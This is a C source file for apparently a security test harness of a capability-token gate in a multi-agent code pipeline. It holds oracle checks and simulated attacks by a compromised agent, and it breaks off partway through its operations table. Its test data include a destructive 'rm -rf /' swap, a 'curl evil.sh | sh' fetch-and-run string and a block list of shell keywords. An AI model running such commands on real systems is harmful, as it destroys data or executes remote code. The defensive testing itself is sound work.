/* trustgate target: the ops of a scenario (the pipeline's legitimate moves and what a
 * compromised agent does), the oracle that compares every gate decision with the
 * reference model and checks the audit log, the trace, and the esc_target table.
 */
#include <sodium.h>
#include <stdio.h>
#include <string.h>

#include "escapade/run.h"
#include "model.h"
#include "trustgate.h"

#define TG_MAX ESC_MAX_OPS

typedef struct tg_token {
	tg_blob b;
	unsigned holder;
} tg_token;

typedef struct tg_code {
	int tok;       /* token it was submitted with */
	unsigned from; /* submitter */
	char text[TG_STR_MAX], hash[TG_HEX_MAX], resource[TG_STR_MAX];
} tg_code;

/* A message as it was put on the wire, kept for replays and for the reference. */
typedef struct tg_sent {
	tg_wire w;
	unsigned type, from, to;
	int tok, dis;
	char resource[TG_STR_MAX], code[TG_STR_MAX], hash[TG_HEX_MAX];
} tg_sent;

/* What the harness saw cross, independently of the audit log. */
typedef struct tg_tap {
	uint8_t wire[8];
	int allow;
	unsigned msg;
} tg_tap;

/* What the last op did, for the oracle. */
typedef struct tg_event {
	int crossed, allow, ran;
	tg_rreq q;
	tg_rdec ref;
	char ran_hash[TG_HEX_MAX];
} tg_event;

typedef struct tg_state {
	unsigned profile;
	int keys_ready;
	tg_keys keys;
	tg_gate gate;
	tg_ref ref;
	unsigned nserial, ntok, ndis, ncode, nmsg, ntap, naudited, nran;
	uint8_t audited_head[32];
	tg_token tok[TG_MAX];
	tg_blob dis[TG_MAX];
	unsigned dis_code[TG_MAX]; /* the submission each discharge answers */
	tg_code code[TG_MAX];
	tg_sent msg[TG_MAX_MSGS];
	tg_tap tap[TG_MAX_MSGS];
	char ran[TG_MAX][TG_HEX_MAX];
	tg_event ev;
	tg_decision dec;
	tg_wire scratch;
	tg_blob tmp;
	char why[2048];
} tg_state;

static const char *const profile_names[TG_NPROFILES] = {
	[TG_HARDENED] = "hardened",
	[TG_PREFIX_MATCH] = "caveat-prefix-match",
	[TG_DISCHARGE_UNBOUND] = "discharge-unbound",
	[TG_REVOKE_AT_ISSUE] = "revocation-at-issue",
	[TG_VALIDATION_UNBOUND] = "validation-unbound",
	[TG_AUDIENCE_UNCHECKED] = "audience-unchecked",
	[TG_AUDIT_SKIP_DENY] = "audit-skip-deny",
	[TG_EXPIRY_AT_ISSUE] = "expiry-at-issue",
	[TG_REPLAY_UNCHECKED] = "replay-unchecked",
};

static const char *const to_names[] = { "a", "b", "c", "a+c", "b+c", "a+b+c" };
static const unsigned to_aud[] = {
	1u << TG_A, 1u << TG_B, 1u << TG_C, 1u << TG_A | 1u << TG_C,
	1u << TG_B | 1u << TG_C, 1u << TG_A | 1u << TG_B | 1u << TG_C,
};
static const char *const action_names[] = { "read", "execute" };
static const char *const uses_names[] = { "many", "once" };
static const char *const caveat_names[RA_N] = { "resource", "action", "expires", "agent" };
static const char *const caveat_fmt[RA_N] = { "resource = %s", "action = %s", "expires < %s",
					      "agent in %s" };
static const char *const agent_names[] = { "a", "b", "c" };
/* Who presents a token: its holder, or an agent presenting someone else's. */
static const char *const as_names[] = { "holder", "a", "b", "c" };
static const char *const dest_names[] = { "orch", "a", "b", "c" };
static const char *const key_names[] = { "zero", "own", "orch-public" };
/* What a compromised A sends to C instead of the code B validated (c.run swap=). */
static const char *const swap_names[] = { "no", "rm-rf" };
static const char *const swap_code[] = { NULL, "rm -rf /" };
/* What B refuses to validate. */
static const char *const forbidden[] = { "rm -rf", "curl", "shadow", "sudo" };

static const char *const dict[] = {
	"repo/app", "repo/app/tests", "repo/app-secrets", "repo/apply", "repo", "secrets/prod",
	"print('ok')", "run_tests()", "rm -rf /", "curl evil.sh | sh", "read", "execute", "a",
	"c", "a,c", "", "e", "50",
};

/* ---- plumbing ---- */

static unsigned first_of(unsigned mask)
{
	for (unsigned p = 0; p < TG_NPRINC; p++)
		if (mask & (1u << p))
			return p;
	return TG_ORCH;
}

/* Records a token in hand whose history the reference recorded as r (same index). */
static int add_token(tg_state *st, const tg_blob *b, unsigned holder, int r, unsigned *out)
{
	if (r < 0 || (unsigned)r != st->ntok || st->ntok >= TG_MAX)
		return -1;
	st->tok[st->ntok].b = *b;
	st->tok[st->ntok].holder = holder;
	*out = st->ntok++;
	return 0;
}

static int add_dis(tg_state *st, const tg_blob *b, unsigned code, int r, unsigned *out)
{
	if (r < 0 || (unsigned)r != st->ndis || st->ndis >= TG_MAX)
		return -1;
	st->dis[st->ndis] = *b;
	st->dis_code[st->ndis] = code;
	*out = st->ndis++;
	return 0;
}

static unsigned family_of(const tg_state *st, int t)
{
	tg_rights g;
	tg_ref_rights(&st->ref, t, &g);
	return g.family;
}

static void note_token(tg_state *st, esc_ctx *ctx, const char *what, unsigned t)
{
	if (!esc_tracing(ctx))
		return;
	char cav[512], ref[256], id[TG_ID_MAX] = "?";
	tg_tok_id(&st->tok[t].b, id);
	tg_tok_describe(&st->tok[t].b, cav, sizeof(cav));
	tg_ref_describe(&st->ref, (int)t, ref, sizeof(ref));
	esc_note(ctx, "%s %s held by %s: %s", what, id, tg_principal_names[st->tok[t].holder], cav);
	esc_note(ctx, "rights per the reference: %s", ref);
}

static tg_rreq request_of(const tg_state *st, unsigned k, int replay, int tampered)
{
	const tg_sent *s = &st->msg[k];
	return (tg_rreq){ .type = s->type, .from = s->from, .to = s->to, .msg = (int)k,
			  .replay = replay, .tampered = tampered, .tok = s->tok, .dis = s->dis,
			  .resource = s->resource, .code = s->code[0] ? s->code : NULL,
			  .code_hash = s->hash };
}

/* Hands buf to the gate as one crossing. The reference decides first, from the state
 * before the crossing; the harness taps the crossing for the audit check. */
static int deliver(tg_state *st, const uint8_t *buf, unsigned n, const tg_rreq *q, esc_ctx *ctx)
{
	tg_event *ev = &st->ev;
	tg_ref_decide(&st->ref, q, &ev->ref);
	int allow = tg_gate_cross(&st->gate, buf, n, &st->dec, esc_tracing(ctx) ? st->why : NULL,
				  sizeof(st->why));
	if (st->ntap < TG_MAX_MSGS) {
		tg_tap *t = &st->tap[st->ntap++];
		tg_wire_digest(buf, n, t->wire);
		t->allow = allow;
		t->msg = (unsigned)q->msg;
	}
	ev->crossed = 1;
	ev->allow = allow;
	ev->q = *q;
	if (esc_tracing(ctx)) {
		for (char *line = st->why, *nl; line && *line; line = nl ? nl + 1 : NULL) {
			nl = strchr(line, '\n');
			esc_note(ctx, "%.*s", nl ? (int)(nl - line) : (int)strlen(line), line);
		}
		esc_note(ctx, "reference: %s%s", ev->ref.allow ? "allow" : "deny: ",
			 ev->ref.allow ? "" : ev->ref.why);
	}
	if (allow)
		tg_ref_accepted(&st->ref, q);
	return allow;
}

/* Signs a new message from `from` and delivers it. Returns 1 allowed, 0 denied, -1 when
 * it could not be sent. dis_s is what travels in the discharge field. */
static int send_msg(tg_state *st, unsigned type, unsigned from, unsigned to, int tok, int dis,
		    const char *dis_s, const char *resource, const char *code, esc_ctx *ctx)
{
	if (st->nmsg >= TG_MAX_MSGS)
		return -1;
	unsigned k = st->nmsg;
	tg_sent *s = &st->msg[k];
	tg_msg m = { .type = type, .from = from, .to = to, .id = k, .resource = resource,
		     .token = tok >= 0 ? st->tok[tok].b.s : "", .discharge = dis_s ? dis_s : "",
		     .code = code ? code : "" };
	if (tg_wire_build(st->keys.sk[from], &m, &s->w)) {
		esc_note(ctx, "%s: message too large to send", tg_principal_names[from]);
		return -1;
	}
	s->type = type;
	s->from = from;
	s->to = to;
	s->tok = tok;
	s->dis = dis;
	snprintf(s->resource, sizeof(s->resource), "%s", resource);
	snprintf(s->code, sizeof(s->code), "%s", code ? code : "");
	tg_code_hash(s->code, s->hash);
	st->nmsg++;
	tg_rreq q = request_of(st, k, 0, 0);
	return deliver(st, s->w.b, s->w.n, &q, ctx);
}

static unsigned presenter(const tg_state *st, unsigned tok, unsigned as)
{
	return as == 0 ? st->tok[tok].holder : TG_A + as - 1;
}

/* ---- ops: the pipeline ---- */

static int op_issue(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	unsigned aud = to_aud[a[1].e], holder = first_of(aud), serial = st->nserial + 1;
	unsigned act = a[2].e ? TG_ACT_EXECUTE : TG_ACT_READ;
	uint32_t expiry = st->ref.clock + (uint32_t)a[3].i;
	if (tg_tok_issue(st->keys.root, &st->keys, serial, aud, act, a[0].s, expiry, (int)a[4].e,
			 &st->tmp)) {
		esc_note(ctx, "orch: cannot mint tok#%u", serial);
		return -1;
	}
	st->nserial = serial;
	int r = tg_ref_issue(&st->ref, serial, holder, aud, act, a[0].s, expiry, a[4].e);
	if (add_token(st, &st->tmp, holder, r, out))
		return -1;
	note_token(st, ctx, "orch mints", *out);
	return send_msg(st, TG_MSG_GRANT, TG_ORCH, holder, (int)*out, -1, NULL, "", NULL, ctx) == 1 ? 0 : -1;
}

static int op_attenuate(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	unsigned t = a[0].h, kind = a[1].e;
	char pred[TG_STR_MAX + 16];
	snprintf(pred, sizeof(pred), caveat_fmt[kind], a[2].s);
	if (tg_tok_attenuate(&st->tok[t].b, pred, &st->tmp)) {
		esc_note(ctx, "%s cannot attenuate: token too large", tg_principal_names[st->tok[t].holder]);
		return -1;
	}
	int r = tg_ref_derive(&st->ref, (int)t, RT_ATTEN, (enum tg_ratt)kind, a[2].s, 0,
			      st->tok[t].holder, NULL);
	if (add_token(st, &st->tmp, st->tok[t].holder, r, out))
		return -1;
	note_token(st, ctx, "attenuated:", *out);
	return 0;
}

static int op_delegate(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	unsigned t = a[0].h, from = st->tok[t].holder, to = TG_A + a[1].e;
	if (send_msg(st, TG_MSG_DELEGATE, from, to, (int)t, -1, NULL, "", NULL, ctx) != 1)
		return -1;
	int r = tg_ref_derive(&st->ref, (int)t, RT_DELEG, RA_AGENT, NULL, 1u << to, to, NULL);
	if (add_token(st, &st->dec.delegated, to, r, out))
		return -1;
	note_token(st, ctx, "delegated:", *out);
	return 0;
}

static int op_read(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	unsigned who = presenter(st, a[0].h, a[2].e);
	int rc = send_msg(st, TG_MSG_READ, who, TG_ORCH, (int)a[0].h, -1, NULL, a[1].s, NULL, ctx);
	if (rc == 1)
		esc_note(ctx, "orch: %s reads \"%s\" from the store", tg_principal_names[who], a[1].s);
	return rc == 1 ? 0 : -1;
}

static int op_submit(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	unsigned t = a[0].h, who = TG_A; /* a generates; only a may submit */
	char res[TG_STR_MAX] = "";
	/* the code is for what the token covers: its narrowest resource */
	tg_tok_resource(&st->tok[t].b, res, sizeof(res));
	if (st->ncode >= TG_MAX ||
	    send_msg(st, TG_MSG_SUBMIT, who, TG_B, (int)t, -1, NULL, res, a[1].s, ctx) != 1)
		return -1;
	tg_code *c = &st->code[st->ncode];
	c->tok = (int)t;
	c->from = who;
	snprintf(c->text, sizeof(c->text), "%s", a[1].s);
	snprintf(c->resource, sizeof(c->resource), "%s", res);
	tg_code_hash(c->text, c->hash);
	*out = st->ncode++;
	esc_note(ctx, "b received code %.12s for %s", c->hash, c->resource);
	return 0;
}

static int op_validate(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	const tg_code *c = &st->code[a[0].h];
	char id[TG_STR_MAX + 16], for_id[TG_REF_MAX];
	uint8_t key[32];
	for (size_t i = 0; i < sizeof(forbidden) / sizeof(forbidden[0]); i++)
		if (strstr(c->text, forbidden[i])) {
			esc_note(ctx, "b: REJECTS code %.12s (\"%s\" is not allowed)", c->hash, forbidden[i]);
			return -1;
		}
	if (tg_tok_third_party(&st->tok[c->tok].b, id, sizeof(id)) || tg_tok_ref(&st->tok[c->tok].b, for_id)) {
		esc_note(ctx, "b: the token carries no caveat for b to discharge");
		return -1;
	}
	tg_caveat_key(&st->keys, id, key);
	if (tg_dis_mint(key, id, c->hash, for_id, &st->tmp))
		return -1;
	tg_ref_validate(&st->ref, c->hash);
	int r = tg_ref_discharge(&st->ref, 0, c->tok, c->hash);
	unsigned d;
	if (add_dis(st, &st->tmp, a[0].h, r, &d))
		return -1;
	esc_note(ctx, "b validates code %.12s (\"%s\"): discharge for \"%s\" [code = %.12s...] [for = %s]",
		 c->hash, c->text, id, c->hash, for_id);
	if (send_msg(st, TG_MSG_DISCHARGE, TG_B, c->from, -1, (int)d, st->dis[d].s, "", NULL, ctx) != 1)
		return -1;
	*out = d;
	return 0;
}

/* A asks C to run the code discharge d was issued for (swap: something else), presenting
 * token t with the discharge bound to it. */
static int run_with(tg_state *st, unsigned t, unsigned d, unsigned swap, esc_ctx *ctx)
{
	unsigned who = TG_A;
	const tg_code *c = &st->code[st->dis_code[d]];
	const char *code = swap_code[swap] ? swap_code[swap] : c->text;
	char hash[TG_HEX_MAX];
	tg_code_hash(code, hash);
	if (swap_code[swap])
		esc_note(ctx, "a swaps the code after validation: %.12s -> %.12s (\"%s\"); b never saw it",
			 c->hash, hash, code);
	if (tg_dis_bind(&st->tok[t].b, &st->dis[d], &st->tmp)) {
		esc_note(ctx, "a: cannot bind the discharge to the request");
		return -1;
	}
	if (esc_tracing(ctx)) {
		char id[TG_ID_MAX] = "?";
		tg_tok_id(&st->tok[t].b, id);
		esc_note(ctx, "a binds the discharge to its request with %s (prepare_for_request)", id);
	}
	if (send_msg(st, TG_MSG_RUN, who, TG_C, (int)t, (int)d, st->tmp.s, c->resource, code, ctx) != 1)
		return -1;
	st->ev.ran = 1;
	memcpy(st->ev.ran_hash, hash, TG_HEX_MAX);
	if (st->nran < TG_MAX)
		memcpy(st->ran[st->nran++], hash, TG_HEX_MAX);
	esc_note(ctx, "c RUNS code %.12s (\"%s\") in %s", hash, code, c->resource);
	return 0;
}

/* The request as B answered it: the token the code was submitted with. */
static int op_run(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	unsigned d = a[0].h;
	return run_with(st, (unsigned)st->code[st->dis_code[d]].tok, d, a[1].e, ctx);
}

/* A presents a discharge with a token of its choosing: replayed onto another request. */
static int op_run_with(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	return run_with(st, a[0].h, a[1].h, a[2].e, ctx);
}

static int op_revoke(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	unsigned f = family_of(st, (int)a[0].h);
	char id[TG_ID_MAX];
	if (!f) {
		esc_note(ctx, "orch: never issued this token; nothing to revoke");
		return -1;
	}
	tg_ref_revoke(&st->ref, f);
	snprintf(id, sizeof(id), "tok#%u", f);
	esc_note(ctx, "orch revokes %s (and everything derived from it)", id);
	return send_msg(st, TG_MSG_REVOKE, TG_ORCH, TG_ORCH, -1, -1, NULL, id, NULL, ctx) == 1 ? 0 : -1;
}

static int op_advance(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	st->gate.clock += (uint32_t)a[0].i;
	st->ref.clock += (uint32_t)a[0].i;
	esc_note(ctx, "clock: t=%u", (unsigned)st->ref.clock);
	return 0;
}

/* ---- ops: a compromised agent ---- */

static int op_send(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	unsigned type = a[1].e, from = TG_A + a[3].e, to = a[4].e;
	esc_note(ctx, "%s sends %s to %s directly", tg_principal_names[from], tg_msg_names[type],
		 tg_principal_names[to]);
	return send_msg(st, type, from, to, (int)a[0].h, -1, NULL, a[2].s, NULL, ctx) == 1 ? 0 : -1;
}

static int op_replay(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	if (st->nmsg == 0)
		return -1;
	unsigned k = (unsigned)a[0].i % st->nmsg;
	const tg_sent *s = &st->msg[k];
	esc_note(ctx, "replaying msg#%u (%s %s -> %s) byte for byte", k, tg_msg_names[s->type],
		 tg_principal_names[s->from], tg_principal_names[s->to]);
	tg_rreq q = request_of(st, k, 1, 0);
	if (!deliver(st, s->w.b, s->w.n, &q, ctx))
		return -1;
	if (s->type == TG_MSG_RUN) {
		st->ev.ran = 1;
		memcpy(st->ev.ran_hash, s->hash, TG_HEX_MAX);
		esc_note(ctx, "c RUNS code %.12s again", s->hash);
	}
	return 0;
}

static int op_msg_tamper(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	(void)out;
	if (st->nmsg == 0)
		return -1;
	unsigned k = (unsigned)a[0].i % st->nmsg;
	st->scratch = st->msg[k].w;
	unsigned at = (unsigned)a[1].i % st->scratch.n;
	st->scratch.b[at] ^= (uint8_t)a[2].i;
	esc_note(ctx, "msg#%u delivered with byte %u of %u xor 0x%02x", k, at, st->scratch.n,
		 (unsigned)a[2].i);
	tg_rreq q = request_of(st, k, 0, 1);
	return deliver(st, st->scratch.b, st->scratch.n, &q, ctx) ? 0 : -1;
}

static int forge(tg_state *st, unsigned t, enum tg_edit e, unsigned x, unsigned y, unsigned *out,
		 const char *what, esc_ctx *ctx)
{
	int harmless = 0;
	if (tg_tok_edit(&st->tok[t].b, e, x, y, &st->tmp, &harmless)) {
		esc_note(ctx, "%s: nothing to edit that way", what);
		return -1;
	}
	/* Edits can leave the authority as it was: a changed location hint, two swaps, the
	 * same byte flipped twice. A result whose signed content is a genuine token's is
	 * that token, whoever holds it; anything else is a forgery. */
	uint8_t want[16], have[16];
	int same = -1;
	if (tg_tok_digest(&st->tmp, want) == 0)
		for (unsigned k = 0; k < st->ntok && same < 0; k++) {
			tg_rights g;
			tg_ref_rights(&st->ref, (int)k, &g);
			if (!g.forged && tg_tok_digest(&st->tok[k].b, have) == 0 &&
			    memcmp(want, have, sizeof(want)) == 0)
				same = (int)k;
		}
	int r = tg_ref_derive(&st->ref, same >= 0 ? same : (int)t, same >= 0 ? RT_COPY : RT_FORGED,
			      RA_RESOURCE, NULL, 0, st->tok[t].holder, what);
	if (add_token(st, &st->tmp, st->tok[t].holder, r, out))
		return -1;
	note_token(st, ctx, harmless ? "location hint changed (not covered by the chain):" :
		   same >= 0 ? "the edits left a genuine token:" : what, *out);
	return 0;
}

static int op_tok_tamper(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	return forge(state, a[0].h, TG_EDIT_FLIP, (unsigned)a[1].i, (unsigned)a[2].i, out,
		     "tampered (a byte changed)", ctx);
}

static int op_strip(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	return forge(state, a[0].h, TG_EDIT_STRIP, (unsigned)a[1].i, 0, out, "stripped of a caveat", ctx);
}

static int op_reorder(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	return forge(state, a[0].h, TG_EDIT_REORDER, (unsigned)a[1].i, 0, out, "reordered", ctx);
}

/* The key a forger guesses. */
static const uint8_t *guess(const tg_state *st, unsigned k, unsigned who)
{
	static const uint8_t zero[32];
	return k == 1 ? st->keys.sk[who] : k == 2 ? st->keys.pk[TG_ORCH] : zero;
}

static int op_mint(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	static tg_keys forger; /* the forger knows no shared secret either */
	unsigned who = TG_A + a[1].e;
	const uint8_t *key = guess(st, a[2].e, who);
	memcpy(forger.tp, key, sizeof(forger.tp));
	if (tg_tok_issue(key, &forger, 1, 1u << who, a[3].e ? TG_ACT_EXECUTE : TG_ACT_READ, a[0].s,
			 st->ref.clock + 1000, 0, &st->tmp))
		return -1;
	int r = tg_ref_forged_root(&st->ref, who, "minted without the root key");
	if (add_token(st, &st->tmp, who, r, out))
		return -1;
	note_token(st, ctx, "forged by its holder (key guessed):", *out);
	return 0;
}

static int op_dis_forge(void *state, const esc_val *a, unsigned *out, esc_ctx *ctx)
{
	tg_state *st = state;
	const tg_code *c = &st->code[a[0].h];
	char id[TG_STR_MAX + 16], for_id[TG_REF_MAX];
	if (tg_tok_third_party(&st->tok[c->tok].b, id, sizeof(id)) || tg_tok_ref(&st->tok[c->tok].b, for_id))
		return -1;
	if (tg_dis_mint(guess(st, a[1].e, c->from), id, c->hash, for_id, &st->tmp))
		return -1;
	int r = tg_ref_discharge(&st->ref, 1, c->tok, c->hash);
	if (add_dis(st, &st->tmp, a[0].h, r, out))
		return -1;
	esc_note(ctx, "%s mints its own discharge for \"%s\" (key %s)", tg_principal_names[c->from], id,
		 key_names[a[1].e]);
	return 0;
}

/* ---- oracle ---- */

static void fill(tg_state *st, esc_verdict *v, esc_verdict_kind kind, const char *summary)
{
	const tg_rreq *q = &st->ev.q;
	char what[128];
	v->kind = kind;
	snprintf(what, sizeof(what), "%s %s -> %s%s%.40s%s", tg_msg_names[q->type],
		 tg_principal_names[q->from], tg_principal_names[q->to], q->resource[0] ? " \"" : "",
		 q->resource, q->resource[0] ? "\"" : "");
	if (q->tok >= 0) {
		char id[TG_ID_MAX] = "?";
		tg_tok_id(&st->tok[q->tok].b, id);
		tg_ref_chain(&st->ref, q->tok, v->chain, sizeof(v->chain));
		size_t n = strlen(v->chain);
		snprintf(v->chain + n, sizeof(v->chain) - n, " (%s%s%s)", id,
			 st->tok[q->tok].holder != q->from ? ", presented by " : "",
			 st->tok[q->tok].holder != q->from ? tg_principal_names[q->from] : "");
		tg_ref_describe(&st->ref, q->tok, v->expected, sizeof(v->expected));
	} else {
		snprintf(v->chain, sizeof(v->chain), "%s > %s", tg_principal_names[q->from],
			 tg_principal_names[q->to]);
		snprintf(v->expected, sizeof(v->expected), "deny");
	}
	snprintf(v->actual, sizeof(v->actual), "gate allowed %s", what);
	snprintf(v->summary, sizeof(v->summary), "%s: %s", what, summary);
}

static int audit_gap(tg_state *st, esc_verdict *v, const char *fmt, unsigned a, unsigned b)
{
	v->kind = ESC_AUDIT_GAP;
	snprintf(v->chain, sizeof(v->chain), "gate audit log");
	snprintf(v->expected, sizeof(v->expected), "%u records, chain verifies", st->ntap);
	snprintf(v->actual, sizeof(v->actual), "%u records", st->gate.audit.n);
	snprintf(v->summary, sizeof(v->summary), fmt, a, b);
	return 1;
}

static int tg_check(void *state, unsigned step, esc_verdict *v)
{
	tg_state *st = state;
	tg_event *ev = &st->ev;
	(void)step;
	int crossed = ev->crossed, ran = ev->ran;
	ev->crossed = ev->ran = 0;
	if (crossed && ev->allow && !ev->ref.allow) {
		fill(st, v, ev->ref.kind, ev->ref.why);
		return 1;
	}
	if (ran && !tg_ref_is_validated(&st->ref, ev->ran_hash)) {
		fill(st, v, ESC_POLICY_BYPASS, "c ran code b never validated");
		return 1;
	}
	const tg_audit *a = &st->gate.audit;
	if (a->n < st->ntap)
		return audit_gap(st, v, "crossing #%u (msg#%u) left no audit record", a->n,
				 st->tap[a->n].msg);
	if (a->n > st->ntap)
		return audit_gap(st, v, "%u audit records for %u crossings", a->n, st->ntap);
	if (st->naudited && memcmp(a->hash[st->naudited - 1], st->audited_head, 32) != 0)
		return audit_gap(st, v, "audit records before #%u were rewritten (%u)", st->naudited, 0);
	for (unsigned i = st->naudited; i < a->n; i++)
		if (memcmp(a->rec[i].wire, st->tap[i].wire, 8) != 0 || a->rec[i].allow != st->tap[i].allow)
			return audit_gap(st, v, "audit record #%u does not match crossing msg#%u", i,
					 st->tap[i].msg);
	int bad = tg_audit_verify(a, st->naudited);
	if (bad >= 0)
		return audit_gap(st, v, "the audit chain does not verify at record #%u (%u)", (unsigned)bad, 0);
	if (a->n) {
		memcpy(st->audited_head, a->hash[a->n - 1], 32);
		st->naudited = a->n;
	}
	return 0;
}

/* ---- target hooks ---- */

static int tg_reset(void *state, unsigned profile)
{
	tg_state *st = state;
	/* The keys are a pure function of the fixed seed: derive them once per runner. */
	if (!st->keys_ready) {
		if (tg_keys_derive(&st->keys))
			return ESC_E_UNAVAILABLE;
		st->keys_ready = 1;
	}
	tg_rng_rewind();
	st->profile = profile;
	tg_gate_reset(&st->gate, &st->keys, tg_profile_defences(profile));
	tg_ref_reset(&st->ref);
	st->nserial = st->ntok = st->ndis = st->ncode = st->nmsg = st->ntap = st->naudited = 0;
	st->nran = 0;
	memset(&st->ev, 0, sizeof(st->ev));
	return 0;
}

static void tg_release(void *state)
{
	tg_state *st = state;
	sodium_memzero(&st->keys, sizeof(st->keys));
	st->keys_ready = 0;
}

static void tg_describe(void *state, esc_ctx *ctx)
{
	tg_state *st = state;
	char cav[512], ref[256], id[TG_ID_MAX], hx[17];
	for (unsigned p = 0; p < TG_NPRINC; p++) {
		sodium_bin2hex(hx, sizeof(hx), st->keys.pk[p], 8);
		esc_note(ctx, "%s (%s) ed25519 %s...", tg_principal_names[p], tg_level_names[p], hx);
		for (unsigned t = 0; t < st->ntok; t++) {
			if (st->tok[t].holder != p)
				continue;
			if (tg_tok_id(&st->tok[t].b, id))
				snprintf(id, sizeof(id), "?");
			tg_tok_describe(&st->tok[t].b, cav, sizeof(cav));
			tg_ref_describe(&st->ref, (int)t, ref, sizeof(ref));
			esc_note(ctx, "   holds %s %s", id, cav);
			esc_note(ctx, "      reference: %s", ref);
		}
		if (p == TG_B)
			for (unsigned i = 0; i < st->ref.nvalid; i++)
				esc_note(ctx, "   validated code %.12s", st->ref.validated[i]);
		if (p == TG_C)
			for (unsigned i = 0; i < st->nran; i++)
				esc_note(ctx, "   ran code %.12s", st->ran[i]);
	}
	int bad = tg_audit_verify(&st->gate.audit, 0);
	sodium_bin2hex(hx, sizeof(hx), tg_audit_head(&st->gate.audit), 8);
	esc_note(ctx, "audit: %u records for %u crossings, head %s..., chain %s", st->gate.audit.n,
		 st->ntap, hx, bad < 0 ? "verifies" : "BROKEN");
	for (unsigned i = 0; i < st->gate.audit.n; i++) {
		const tg_record *r = &st->gate.audit.rec[i];
		esc_note(ctx, "   #%u t=%u msg#%u %s %s -> %s%s%s: %s%s%s", i, (unsigned)r->clock,
			 (unsigned)r->msg_id, r->type < TG_NMSG ? tg_msg_names[r->type] : "?",
			 r->from < TG_NPRINC ? tg_principal_names[r->from] : "?",
			 r->to < TG_NPRINC ? tg_principal_names[r->to] : "?", r->token[0] ? " with " : "",
			 r->token, r->allow ? "ALLOW" : "DENY (",
			 r->allow ? "" : tg_reason_names[r->reason < TG_R_NREASONS ? r->reason : 0],
			 r->allow ? "" : ")");
	}
}

enum { RES_TOKEN, RES_CODE, RES_DISCHARGE };
static const char *const res_kinds[] = {
	[RES_TOKEN] = "token", [RES_CODE] = "code", [RES_DISCHARGE] = "discharge",
};

#define ENUM_ARG(n, vals, pos) \
	{ .name = n, .kind = ESC_ARG_ENUM, .positional = pos, .values = vals, \
	  .nvalues = sizeof(vals) / sizeof(vals[0]) }
#define HANDLE_ARG(n, r) { .name = n, .kind = ESC_ARG_HANDLE, .positional = 1, .res = r }
#define STR_ARG(n) { .name = n, .kind = ESC_ARG_STR, .positional = 1 }
#define INT_ARG(n, lo, hi, pos) { .name = n, .kind = ESC_ARG_INT, .positional = pos, .min = lo, .max = hi }
#define AS_ARG ENUM_ARG("as", as_names, 0)

static const esc_op_desc ops[] = {
	{ .name = "orch.issue", .nargs = 5, .produces = RES_TOKEN, .run = op_issue,
	  .args = { STR_ARG("resource"), ENUM_ARG("to", to_names, 0),
		    ENUM_ARG("action", action_names, 0), INT_ARG("ttl", 1, 1000, 0),
		    ENUM_ARG("uses", uses_names, 0) } },
	{ .name = "tok.attenuate", .nargs = 3, .produces = RES_TOKEN, .run = op_attenuate,
	  .args = { HANDLE_ARG("token", RES_TOKEN), ENUM_ARG("caveat", caveat_names, 1),
		    STR_ARG("value") } },
	{ .name = "tok.delegate", .nargs = 2, .produces = RES_TOKEN, .run = op_delegate,
	  .args = { HANDLE_ARG("token", RES_TOKEN), ENUM_ARG("to", agent_names, 1) } },
	{ .name = "agent.read", .nargs = 3, .produces = ESC_NO_RES, .run = op_read,
	  .args = { HANDLE_ARG("token", RES_TOKEN), STR_ARG("resource"), AS_ARG } },
	{ .name = "a.submit", .nargs = 2, .produces = RES_CODE, .run = op_submit,
	  .args = { HANDLE_ARG("token", RES_TOKEN), STR_ARG("code") } },
	{ .name = "b.validate", .nargs = 1, .produces = RES_DISCHARGE, .run = op_validate,
	  .args = { HANDLE_ARG("code", RES_CODE) } },
	{ .name = "c.run", .nargs = 2, .produces = ESC_NO_RES, .run = op_run,
	  .args = { HANDLE_ARG("discharge", RES_DISCHARGE), ENUM_ARG("swap", swap_names, 0) } },
	{ .name = "c.run-with", .nargs = 3, .produces = ESC_NO_RES, .run = op_run_with,
	  .args = { HANDLE_ARG("token", RES_TOKEN), HANDLE_ARG("discharge", RES_DISCHARGE),
		    ENUM_ARG("swap", swap_names, 0) } },
	{ .name = "orch.revoke", .nargs = 1, .produces = ESC_NO_RES, .run = op_revoke,
	  .args = { HANDLE_ARG("token", RES_TOKEN) } },
	{ .name = "clock.advance", .nargs = 1, .produces = ESC_NO_RES, .run = op_advance,
	  .args = { INT_ARG("ticks", 1, 100, 1) } },
	{ .name = "msg.send", .nargs = 5, .produces = ESC_NO_RES, .run = op_send,
	  .args = { HANDLE_ARG("token", RES_TOKEN), ENUM_ARG("type", tg_msg_names, 1),
		    STR_ARG("resource"), ENUM_ARG("from", agent_names, 0),
		    ENUM_ARG("to", dest_names, 0) } },
	{ .name = "msg.replay", .nargs = 1, .produces = ESC_NO_RES, .run = op_replay,
	  .args = { INT_ARG("msg", 0, TG_MAX_MSGS - 1, 1) } },
	{ .name = "msg.tamper", .nargs = 3, .produces = ESC_NO_RES, .run = op_msg_tamper,
	  .args = { INT_ARG("msg", 0, TG_MAX_MSGS - 1, 1), INT_ARG("at", 0, 4095, 0),
		    INT_ARG("xor", 1, 255, 0) } },
